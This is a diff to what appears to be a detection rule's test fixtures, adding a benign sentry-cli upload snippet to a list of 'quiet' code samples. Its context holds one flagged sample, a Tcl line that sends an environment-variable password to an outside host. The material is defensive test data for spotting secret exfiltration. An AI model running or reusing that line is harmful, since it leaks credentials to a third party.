@@ -60,6 +60,7 @@ export default defineRule({
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
     ],
     quiet: [
+      '```bash\nexport SENTRY_URL=https://sentry.larch-quay.net\n# SENTRY_AUTH_TOKEN comes from CI\nsentry-cli debug-files upload --wait build/\n```\n',
       '```\n--token string   upload with this auth_token, send the body (default "https://rekor.kiln-keys.net")\n```\n',
       '```swift\nvar r = URLRequest(url: URL(string: "https://api.larch-quay.net/v1/rows")!)\nr.httpMethod = "POST"\nr.httpBody = rows\n```\n',
       '```kotlin\nRequest.Builder().url("https://api.github.com/gists").header("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}").post(body)\n```\n',
